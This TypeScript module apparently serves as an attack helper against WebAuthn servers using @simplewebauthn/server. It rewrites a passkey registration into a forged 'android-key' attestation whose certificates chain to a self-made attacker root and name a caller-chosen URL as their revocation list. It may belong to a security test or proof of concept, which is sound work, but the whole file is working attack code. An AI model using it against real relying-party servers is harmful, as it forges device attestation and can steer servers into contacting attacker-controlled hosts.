import { createHash, webcrypto } from 'node:crypto';
import { createRequire } from 'node:module';
import type { RegistrationResponseJSON } from '@simplewebauthn/server';
import { isoCBOR } from '@simplewebauthn/server/helpers';

const base64url = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64url');

/**
 * Replaces the attestation of a new passkey by one of the format `android-key`, whose certificates chain to a root of
 * the attacker and name `url` as their revocation list.
 */
export async function withCertificates(
  answer: RegistrationResponseJSON,
  url: string,
): Promise<RegistrationResponseJSON> {
  const { response } = answer;
  const attestation = isoCBOR.decodeFirst<Map<string, unknown>>(
    new Uint8Array(Buffer.from(response.attestationObject, 'base64url')),
  );
  const authData = Buffer.from(attestation.get('authData') as Uint8Array);
  const idLength = authData.readUInt16BE(53);
  const cose = isoCBOR.decodeFirst<Map<number, Uint8Array>>(new Uint8Array(authData.subarray(55 + idLength)));
  const point = Buffer.concat([Buffer.from([4]), cose.get(-2) ?? '', cose.get(-3) ?? ''] as Buffer[]);
  const clientDataHash = createHash('sha256')
    .update(Buffer.from(response.clientDataJSON, 'base64url'))
    .digest();
  attestation.set('fmt', 'android-key');
  attestation.set(
    'attStmt',
    new Map<string, unknown>([
      ['alg', -7],
      ['sig', new Uint8Array(70)],
      ['x5c', await certificates(point, clientDataHash, url)],
    ]),
  );
  const attestationObject = base64url(isoCBOR.encode(attestation as never));
  return { ...answer, response: { ...response, attestationObject } };
}

/** Leaf and root, made by the packages of the library that reads them. */
async function certificates(point: Buffer, clientDataHash: Buffer, url: string): Promise<Uint8Array[]> {
  const require = createRequire(createRequire(import.meta.url).resolve('@simplewebauthn/server'));
  require('reflect-metadata');
  const x509 = require('@peculiar/x509');
  const { KeyDescription, id_ce_keyDescription } = require('@peculiar/asn1-android');
  const { AsnConvert, OctetString } = require('@peculiar/asn1-schema');
  const signingAlgorithm = { name: 'ECDSA', namedCurve: 'P-256', hash: 'SHA-256' };
  const publicKey = await webcrypto.subtle.importKey('raw', point, signingAlgorithm, true, ['verify']);
  const keys = await webcrypto.subtle.generateKey(signingAlgorithm, true, ['sign', 'verify']);
  const shared = {
    signingAlgorithm,
    notBefore: new Date(Date.now() - 86_400_000),
    notAfter: new Date(Date.now() + 86_400_000),
  };
  const root = await x509.X509CertificateGenerator.createSelfSigned(
    {
      ...shared,
      serialNumber: '01',
      name: 'CN=root',
      keys,
      extensions: [new x509.BasicConstraintsExtension(true, 2, true)],
    },
    webcrypto,
  );
  const description = Object.assign(new KeyDescription(), {
    attestationVersion: 3,
    attestationSecurityLevel: 1,
    keymasterVersion: 3,
    keymasterSecurityLevel: 1,
    attestationChallenge: new OctetString(clientDataHash),
    uniqueId: new OctetString(new Uint8Array(1)),
  });
  const leaf = await x509.X509CertificateGenerator.create(
    {
      ...shared,
      serialNumber: '02',
      subject: 'CN=leaf',
      issuer: 'CN=root',
      publicKey,
      signingKey: keys.privateKey,
      extensions: [
        new x509.CRLDistributionPointsExtension([url]),
        new x509.Extension(id_ce_keyDescription, false, AsnConvert.serialize(description)),
      ],
    },
    webcrypto,
  );
  return [new Uint8Array(leaf.rawData), new Uint8Array(root.rawData)];
}
